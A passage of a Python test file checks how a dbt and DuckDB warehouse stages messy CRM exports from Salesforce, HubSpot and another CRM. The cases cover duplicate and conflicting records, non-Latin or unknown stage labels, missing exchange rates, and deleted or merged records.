    tmp = tmp_path_factory.mktemp("corpus_staging")
    settings = settings_in(tmp)
    landing = staging_landing(tmp / "landing")
    report = load_folder(settings.warehouse, landing)
    assert not report.failed, [f.message for f in report.failed]
    with duckdb.connect(str(settings.warehouse)) as con:
        assert_ledger_reconciles(con)
    run_dbt(
        settings,
        ["build", "--select", "+int_persons", "+int_deals", "--exclude", "assert_no_unmapped_stage_labels"]
        + ["--indirect-selection", "cautious"],  # only tests whose models are all built
        target="duckdb",
    )
    with pytest.raises(DbtError) as failure:
        run_dbt(settings, ["test", "--select", "assert_no_unmapped_stage_labels"], target="duckdb")
    return StagedCorpus(settings.warehouse, str(failure.value))


def _rows(corpus: StagedCorpus, sql: str) -> list[tuple]:
    with duckdb.connect(str(corpus.warehouse), read_only=True) as con:
        return con.execute(sql).fetchall()


SF_DEALS = "select deal_id, {} from staging.stg_salesforce__opportunities where deal_id in ({}) order by 1"
INT_DEALS = "select deal_id, {} from intermediate.int_deals where deal_id in ({}) order by 1"
LABELS = (
    "select source_system, stage_label, stage from intermediate.int_stage_labels "
    "where entity_type = 'deal' and stage_label in ({}) order by 1, 2"
)

# (case id, query on the built warehouse, the rows it must return: worked out from the files above)
STAGING_CASES = [
    (
        "stg_conflicting_versions_newest_modification_wins_not_newest_export",
        SF_DEALS.format("stage_label, amount, source_file", "'006VER'"),
        [("006VER", "Qualification", 100.0, "salesforce/2024-03-01/Opportunity.csv")],
    ),
    (
        "stg_duplicate_id_within_a_file_stages_once_later_line_wins",
        SF_DEALS.format("amount", "'006DUPW', '006EXACT'"),
        [("006DUPW", 20.0), ("006EXACT", 30.0)],
    ),
    (
        "stg_duplicate_id_across_files_counted_once",
        INT_DEALS.format("amount, is_won", "'006ACROSS'"),
        [("006ACROSS", 40.0, True)],
    ),
    (
        "stg_differently_cased_labels_map",
        INT_DEALS.format("current_stage, is_won", "'006CASE1', '006CASE2', '802'"),
        [("006CASE1", "closed_won", True), ("006CASE2", "proposal", False), ("802", "closed_won", True)],
    ),
    (
        "stg_non_latin_labels_map_through_the_mapping",
        LABELS.format("'Предложение', '方案报价', '🚀 Won'"),
        [
            ("corpus_crm", "Предложение", "proposal"),
            ("corpus_crm", "方案报价", "negotiation"),
            ("corpus_crm", "🚀 Won", "closed_won"),
        ],
    ),
    (
        "stg_unknown_labels_stay_as_unmapped",
        INT_DEALS.format("current_stage_label, current_stage", "'006UNK', '801', 'c4'"),
        [
            ("006UNK", UNMAPPED_LABELS[0], "unmapped"),
            ("801", UNMAPPED_LABELS[1], "unmapped"),
            ("c4", UNMAPPED_LABELS[2], "unmapped"),
        ],
    ),  # fmt: skip
    (
        "stg_currency_without_fx_rate_kept_and_flagged",
        INT_DEALS.format("currency_code, amount, amount_reporting, is_fx_rate_missing", "'006NOFX'"),
        [("006NOFX", "XYZ", 500.0, None, True)],
    ),
    (
        "stg_deleted_records_flagged_in_staging_and_left_out_of_entities",
        "select 'deal', deal_id, is_deleted, deal_id in (select deal_id from intermediate.int_deals) "
        "from staging.stg_salesforce__opportunities where deal_id = '006DEL' union all "
        "select 'lead', lead_id, is_deleted, lead_id in (select person_id from intermediate.int_persons) "
        "from staging.stg_salesforce__leads where lead_id = '00QDELETED'",
        [("deal", "006DEL", True, False), ("lead", "00QDELETED", True, False)],
    ),
    (
        "stg_merged_records_folded_into_their_survivor",
        "select source_system, person_id from intermediate.int_persons order by 1, 2",
        # 00QMERGED (MasterRecordId) and 702 (in 701's hs_merged_object_ids) are gone; 00QDELETED too
        [("hubspot", "701"), ("hubspot", "704"), ("salesforce", "00QMASTER")],
    ),
]


@pytest.mark.parametrize(
    ("sql", "expected"), [c[1:] for c in STAGING_CASES], ids=[c[0] for c in STAGING_CASES]
)
def test_bad_input_has_its_expected_staged_effect(staged: StagedCorpus, sql: str, expected: list) -> None:
    assert _rows(staged, sql) == expected


def test_unknown_labels_fail_the_label_test_naming_each_one(staged: StagedCorpus) -> None:
    assert "assert_no_unmapped_stage_labels: fail: Got 3 results" in staged.label_test_failure
    for source_system, label in zip(("salesforce", "hubspot", "corpus_crm"), UNMAPPED_LABELS, strict=True):
        assert f"source_system={source_system}, entity_type=deal, pipeline=default, raw_label={label}" in (
            staged.label_test_failure
        )
